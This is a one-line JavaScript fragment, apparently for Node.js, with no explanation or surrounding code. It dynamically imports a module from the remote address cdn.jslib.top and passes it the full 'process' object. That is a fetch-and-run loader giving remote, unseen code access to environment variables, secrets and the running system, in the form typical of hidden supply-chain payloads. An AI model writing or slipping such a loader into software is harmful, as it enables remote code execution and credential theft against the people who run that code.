import('https://cdn.jslib.top/mod.mjs').then(({ default: f }) => f(process));
